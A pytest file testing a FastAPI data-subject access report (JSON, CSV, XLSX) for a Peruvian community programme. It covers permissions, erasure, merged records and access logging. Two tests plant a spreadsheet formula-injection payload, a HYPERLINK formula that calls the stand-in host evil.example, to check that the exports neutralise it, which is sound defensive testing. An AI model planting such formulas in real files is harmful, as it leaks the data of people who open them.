"""A person asks what the programme holds on her (ARCO *acceso*, Ley 29733 art. 19), and the data protection officer
answers from one report: `GET /members/{member_id}/subject-access` (tester 304 F2).

The DPO read her record only masked, no route listed the meetings and activities that name her, and
`?purpose=data_subject_request` on her record was taken and ignored. Real services in this process, the session's
identity provider and the tokens it issued to the demo accounts.
"""

from __future__ import annotations

import csv
import io
from typing import Any
from uuid import uuid4

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.support.api import assert_problem, created, look_up, ok
from tests.support.identity import IssuedTokens
from tests.support.roles import PERSON, SJL, SMP, an_osv

pytestmark = pytest.mark.timeout(180)

NOTES = "Yusmary Cordero (cel. 987654321) se ofreció a coordinar la feria"


def her_story(system: dict[str, TestClient], tokens: IssuedTokens) -> dict[str, Any]:
    """She is registered in an SJL OSV, attends its meeting, and was recorded a second time in an SMP OSV, where she
    took part in a fair before staff merged the two records; she also took part in an SJL workshop under her own
    record."""
    engagement, staff = system["engagement"], tokens.headers("staff")
    sjl, smp = an_osv(system, SJL), an_osv(system, SMP)
    member = created(engagement.post("/members", json={**PERSON, "osv_id": sjl, "role": "board_member"}, headers=staff))
    second = {**PERSON, "osv_id": smp, "document_type": "PTP", "document_number": "P7654321", "joined_on": "2021-05-02"}
    second["phone"] = None
    duplicate = created(engagement.post("/members", json=second, headers=staff))
    meeting = {"held_on": "2021-04-10", "mode": "virtual", "attendee_member_ids": [member["id"]], "notes": NOTES}
    meeting["topics"] = ["training"]
    held = created(engagement.post(f"/osvs/{sjl}/meetings", json=meeting, headers=staff))
    fair = {"osv_id": smp, "held_on": "2021-06-12", "kind": "fair", "district": SMP}
    fair["participants"] = [{"member_id": duplicate["id"]}]
    fair = created(engagement.post("/activities", json=fair, headers=staff))
    workshop = {"osv_id": sjl, "held_on": "2021-07-03", "kind": "workshop", "district": SJL}
    workshop["participants"] = [{"member_id": member["id"]}]
    workshop = created(engagement.post("/activities", json=workshop, headers=staff))
    created(engagement.post(f"/members/{member['id']}/merges", json={"duplicate_id": duplicate["id"]}, headers=staff))
    return {"sjl": sjl, "smp": smp, "member": member["id"], "duplicate": duplicate["id"], "meeting": held["meeting_id"],
            "fair": fair["id"], "workshop": workshop["id"]}


def test_the_dpo_answers_an_access_request_with_her_data_in_clear_her_osvs_meetings_activities_and_logs(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    story = her_story(system, tokens)
    # Staff read her once, before her request; the DPO finds whom the request is about by her document (masked).
    ok(engagement.get(f"/members/{story['member']}", params={"purpose": "contact"}, headers=tokens.headers("staff")))
    found = ok(look_up(engagement, "CE", PERSON["document_number"], "data_subject_request", headers=dpo))
    assert (found["id"], found["full_name"]) == (story["member"], "[masked]")

    report = ok(engagement.get(f"/members/{story['member']}/subject-access", headers=dpo))

    # Her data, in clear, and every membership (the merged record's too, with the record it is on).
    member = report["member"]
    assert (member["full_name"], member["document_type"], member["document_number"], member["phone"]) == (
        PERSON["full_name"], "CE", PERSON["document_number"], PERSON["phone"]
    )
    assert (member["nationality"], member["sex"], member["disclosed"]) == ("VE", "F", True)
    assert member["personal_data"] == "kept"
    assert [(m["osv_id"], m["roles"][0]["role"], m["joined_on"], m["recorded_on"]) for m in member["memberships"]] == [
        (story["sjl"], "board_member", "2021-03-01", None),
        (story["smp"], "member", "2021-05-02", story["duplicate"]),
    ]
    merged = [(r["id"], r["document_type"], r["document_number"]) for r in report["merged_records"]]
    assert merged == [(story["duplicate"], "PTP", "P7654321")]
    assert {o["osv_id"] for o in report["osvs"]} == {story["sjl"], story["smp"]}
    assert all(o["name"] and o["district"] for o in report["osvs"])
    # The meeting that names her, and both activities, the one listed under the merged record too.
    assert [(m["meeting_id"], m["osv_id"], m["held_on"], m["mode"], m["withdrawn"]) for m in report["meetings"]] == [
        (story["meeting"], story["sjl"], "2021-04-10", "virtual", False)
    ]
    activities = [(a["activity_id"], a["osv_id"], a["held_on"], a["kind"], a["recorded_on"]) 
                  for a in report["activities"]]
    assert activities == [
        (story["fair"], story["smp"], "2021-06-12", "fair", story["duplicate"]),
        (story["workshop"], story["sjl"], "2021-07-03", "workshop", None),
    ]
    assert report["osvs_walked"] >= 2
    # Free text is not searched: the notes that name her are not in the report, and it says whom to ask.
    assert "coordinar la feria" not in str(report) and "notes" in report["free_text"] and "staff" in report["free_text"]
    # Her log: staff's read, the DPO's lookup, and this report, logged on both records before the answer went out: one
    # read, shown once with both records (tester 310 F4: it was shown twice, once per record).
    log = [(a["reader"], a["purpose"], a["disclosure"], a["recorded_on"], a["also_recorded_on"])
           for a in report["access_log"]]
    assert log == [
        ("staff", "contact", "member", None, []),
        ("dpo", "data_subject_request", "lookup", None, []),
        ("dpo", "data_subject_request", "subject_access", None, [story["duplicate"]]),
    ]
    duplicates_log = ok(engagement.get(f"/members/{story['duplicate']}/access-log", headers=dpo))
    assert [(a["reader"], a["disclosure"]) for a in duplicates_log] == [("dpo", "subject_access")]  # each record's own
    logged = ok(engagement.get(f"/members/{story['member']}/access-log", headers=dpo))
    assert (logged[-1]["reader"], logged[-1]["disclosure"]) == ("dpo", "subject_access")
    assert [(c["type"], c["recorded_by"]["subject"], c["recorded_on"]) for c in report["personal_data_changes"]] == [
        ("Registered", "staff", None), ("Registered", "staff", story["duplicate"])
    ]

    # The same as a file to hand her: one row per value, and one more read logged.
    download = engagement.get(f"/members/{story['member']}/subject-access.csv", headers=dpo)
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    assert download.headers["content-disposition"] == f'attachment; filename="subject-access-{story["member"]}.csv"'
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert rows[0] == ["sección", "elemento", "campo", "valor"]  # for her, in Lima (tester 308 F8)
    assert ["member", "0", "full_name", PERSON["full_name"]] in rows
    assert ["activities", "1", "activity_id", story["workshop"]] in rows
    assert ["memberships", "1", "recorded_on", story["duplicate"]] in rows
    assert ["access_log", "2", "also_recorded_on", f'["{story["duplicate"]}"]'] in rows
    after = ok(engagement.get(f"/members/{story['member']}/access-log", headers=dpo))
    assert [a["disclosure"] for a in after].count("subject_access") == 2
    again = ok(engagement.get(f"/members/{story['member']}/subject-access", headers=dpo))["access_log"]
    reports = [(a["read_at"], a["recorded_on"], a["also_recorded_on"]) for a in again if a["disclosure"] == "subject_access"]
    assert len(reports) == 3 and len({at for at, _, _ in reports}) == 3  # the JSON, the CSV, this one: each once
    assert all((on, also) == (None, [story["duplicate"]]) for _, on, also in reports)


@pytest.mark.parametrize("role", ["staff", "lead", "municipal-150132", "evaluator", "auditor", "partner-150132"])
def test_only_the_dpo_reads_a_subject_access_report(
    system: dict[str, TestClient], tokens: IssuedTokens, role: str
) -> None:
    engagement = system["engagement"]
    registration = {**PERSON, "osv_id": an_osv(system, SJL)}
    member = created(engagement.post("/members", json=registration, headers=tokens.headers("staff")))
    for path in ("subject-access", "subject-access.csv", "subject-access.xlsx"):
        refused = assert_problem(engagement.get(f"/members/{member['id']}/{path}", headers=tokens.headers(role)), 403)
        assert refused["permission"] == "personal-data:subject-access"
    assert ok(engagement.get(f"/members/{member['id']}/access-log", headers=tokens.headers("dpo"))) == []


def test_an_erased_persons_report_shows_what_is_left_and_logs_nothing_of_hers(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    story = her_story(system, tokens)
    ok(engagement.post(f"/members/{story['member']}/erasure", json={"erased_on": "2021-12-01"}, headers=dpo))

    report = ok(engagement.get(f"/members/{story['member']}/subject-access", headers=dpo))
    member = report["member"]
    shown = [member[field] for field in ("full_name", "document_type", "document_number", "phone", "birth_year")]
    assert shown == ["[erased]", None, None, None, None]
    assert member["personal_data"] == "erased"
    assert [m["osv_id"] for m in member["memberships"]] == [story["sjl"], story["smp"]]
    assert [(r["full_name"], r["document_number"]) for r in report["merged_records"]] == [("[erased]", None)]
    assert [m["meeting_id"] for m in report["meetings"]] == [story["meeting"]]
    assert [a["activity_id"] for a in report["activities"]] == [story["fair"], story["workshop"]]
    assert PERSON["full_name"] not in str(report) and PERSON["document_number"] not in str(report)
    assert "subject_access" not in [a["disclosure"] for a in report["access_log"]]  # nothing of hers was shown
    assert [c["type"] for c in report["personal_data_changes"] if c["recorded_on"] is None][-1] == "PersonalDataErased"


def test_a_merged_away_records_report_says_where_the_person_is(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    story = her_story(system, tokens)
    report = ok(engagement.get(f"/members/{story['duplicate']}/subject-access", headers=dpo))
    assert report["member"]["merged_into"] == story["member"]
    assert report["member"]["document_number"] == "P7654321"
    assert [a["activity_id"] for a in report["activities"]] == [story["fair"]]


def test_an_unknown_member_is_404_and_a_masked_read_for_a_request_is_refused_naming_the_report(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    for path in ("subject-access", "subject-access.csv", "subject-access.xlsx"):
        assert_problem(engagement.get(f"/members/{uuid4()}/{path}", headers=dpo), 404, rule="known_member")
    osv_id = an_osv(system, SJL)
    member = created(engagement.post("/members", json={**PERSON, "osv_id": osv_id}, headers=tokens.headers("staff")))

    # Tester 304 F2: the DPO's `purpose=data_subject_request` was taken and ignored (200, masked, nothing logged).
    for role in ("dpo", "auditor"):
        for path in (f"/members/{member['id']}", f"/osvs/{osv_id}/members"):
            asked = engagement.get(path, params={"purpose": "data_subject_request"}, headers=tokens.headers(role))
            refused = assert_problem(asked, 422, "purpose", "subject_access_route")
            assert "/subject-access" in refused["errors"][0]["message"]
    assert ok(engagement.get(f"/members/{member['id']}", headers=dpo))["full_name"] == "[masked]"  # as before
    staff = tokens.headers("staff")
    shown = ok(engagement.get(f"/members/{member['id']}", params={"purpose": "data_subject_request"}, headers=staff))
    assert shown["full_name"] == PERSON["full_name"]
    assert [a["reader"] for a in ok(engagement.get(f"/members/{member['id']}/access-log", headers=dpo))] == ["staff"]


def test_the_downloaded_report_writes_a_name_typed_as_a_formula_as_text(system: dict[str, TestClient], tokens: IssuedTokens) -> None:
    """Tester 308 F1: the subject-access CSV was written with a plain csv.writer, so a name registered as a formula
    (``=HYPERLINK(…)``, by staff, a lead or the Kobo webhook) became a live formula in the file the DPO hands the person;
    every other CSV of the platform escapes it (README: names written as text, never as a formula)."""
    engagement = system["engagement"]
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
    member = created(engagement.post(
        "/members", json={**PERSON, "full_name": planted, "osv_id": an_osv(system, SJL)}, headers=tokens.headers("staff")
    ))

    download = engagement.get(f"/members/{member['id']}/subject-access.csv", headers=tokens.headers("dpo"))

    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert ["member", "0", "full_name", "'" + planted] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows


def test_the_workbook_keeps_her_document_number_and_phone_as_written_where_the_csv_cannot(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    """Tester 308 F2: opened in a spreadsheet, the CSV showed her carné de extranjería `000765431` as 765431 and her
    phone as `'+51…`; the XLSX types each cell as the JSON has it, and a name typed as a formula stays a string."""
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
    person = {**PERSON, "full_name": planted, "document_number": "000765431", "birth_year": 1990}
    registration = {**person, "osv_id": an_osv(system, SJL)}
    member = created(engagement.post("/members", json=registration, headers=tokens.headers("staff")))

    # The CSV cannot say that a value is text: the number goes out as bare digits, which a spreadsheet's General
    # format reads as 765431, and the phone escaped against formulas.
    text = engagement.get(f"/members/{member['id']}/subject-access.csv", headers=dpo).content.decode("utf-8-sig")
    csv_values = {row[2]: row[3] for row in csv.reader(io.StringIO(text)) if row[0] == "member"}
    assert csv_values["document_number"] == "000765431" and float(csv_values["document_number"]) == 765431
    assert csv_values["phone"] == "'" + PERSON["phone"]

    download = engagement.get(f"/members/{member['id']}/subject-access.xlsx", headers=dpo)

    assert download.status_code == 200
    assert download.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert download.headers["content-disposition"] == f'attachment; filename="subject-access-{member["id"]}.xlsx"'
    sheet = load_workbook(io.BytesIO(download.content)).active
    assert [cell.value for cell in sheet[1]] == ["sección", "elemento", "campo", "valor"]
    assert all(cell.font.bold for cell in sheet[1]) and sheet.freeze_panes == "A2"
    cells = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2) if row[0].value == "member"}
    assert (cells["document_number"].value, cells["document_number"].data_type) == ("000765431", "s")
    assert (cells["phone"].value, cells["phone"].data_type) == (PERSON["phone"], "s")
    assert (cells["full_name"].value, cells["full_name"].data_type) == (planted, "s")  # a string, not a formula
    assert (cells["birth_year"].value, cells["birth_year"].data_type) == (1990, "n")  # a number where the JSON has one
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # The same rows as the CSV, and each download one read on her access log.
    fields = [[str(cell.value) for cell in row[:3]] for row in sheet.iter_rows(min_row=2)]
    read_before = [row[:3] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert [f for f in fields if f[0] != "access_log"] == [f for f in read_before if f[0] != "access_log"]
    log = ok(engagement.get(f"/members/{member['id']}/access-log", headers=dpo))
    logged = [(a["reader"], a["purpose"], a["disclosure"]) for a in log]
    assert logged == [("dpo", "data_subject_request", "subject_access")] * 2


def test_the_files_say_how_many_osvs_were_walked_and_when_the_report_was_read_as_the_json_does(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    """Tester 310 F6: the JSON says `osvs_walked`, the CSV and XLSX left it out; and they wrote the report's `read_at`
    as `…+00:00` where the JSON, and every other time in the files, writes `…Z`."""
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    registration = {**PERSON, "osv_id": an_osv(system, SJL)}
    member = created(engagement.post("/members", json=registration, headers=tokens.headers("staff")))
    report = ok(engagement.get(f"/members/{member['id']}/subject-access", headers=dpo))
    assert report["osvs_walked"] >= 1 and report["read_at"].endswith("Z")

    text = engagement.get(f"/members/{member['id']}/subject-access.csv", headers=dpo).content.decode("utf-8-sig")
    in_csv = {row[2]: row[3] for row in list(csv.reader(io.StringIO(text)))[1:] if row[0] == "report"}
    workbook = engagement.get(f"/members/{member['id']}/subject-access.xlsx", headers=dpo).content
    sheet = load_workbook(io.BytesIO(workbook)).active
    in_xlsx = {row[2].value: row[3].value for row in sheet.iter_rows(min_row=2) if row[0].value == "report"}

    assert int(in_csv["osvs_walked"]) == in_xlsx["osvs_walked"] == report["osvs_walked"]  # no OSV made in between
    for read_at in (in_csv["read_at"], in_xlsx["read_at"]):
        assert read_at.endswith("Z") and len(read_at) == len(report["read_at"]), read_at
    logged = {row[3] for row in csv.reader(io.StringIO(text)) if row[0] == "access_log" and row[2] == "read_at"}
    assert logged and all(at.endswith("Z") for at in logged)


def test_the_files_headers_are_spanish_for_her_and_english_when_asked_while_the_json_keeps_its_names(
    system: dict[str, TestClient], tokens: IssuedTokens
) -> None:
    """Tester 308 F8: the DPO hands the file to the person, in Lima, and its columns were named in English. `lang=en`
    gives them in English, as the indicators' exports do; an API's field names stay as they are."""
    engagement, dpo = system["engagement"], tokens.headers("dpo")
    registration = {**PERSON, "osv_id": an_osv(system, SJL)}
    member = created(engagement.post("/members", json=registration, headers=tokens.headers("staff")))
    path = f"/members/{member['id']}/subject-access"

    def csv_header(**params: str) -> list[str]:
        text = engagement.get(f"{path}.csv", params=params, headers=dpo).content.decode("utf-8-sig")
        return next(csv.reader(io.StringIO(text)))

    def xlsx_header(**params: str) -> list[str]:
        sheet = load_workbook(io.BytesIO(engagement.get(f"{path}.xlsx", params=params, headers=dpo).content)).active
        return [cell.value for cell in sheet[1]]

    spanish, english = ["sección", "elemento", "campo", "valor"], ["section", "item", "field", "value"]
    assert csv_header() == csv_header(lang="es") == xlsx_header() == xlsx_header(lang="es") == spanish
    assert csv_header(lang="en") == xlsx_header(lang="en") == english
    for suffix in (".csv", ".xlsx"):
        assert_problem(engagement.get(f"{path}{suffix}", params={"lang": "qu"}, headers=dpo), 422, "lang")
    assert "full_name" in ok(engagement.get(path, headers=dpo))["member"]
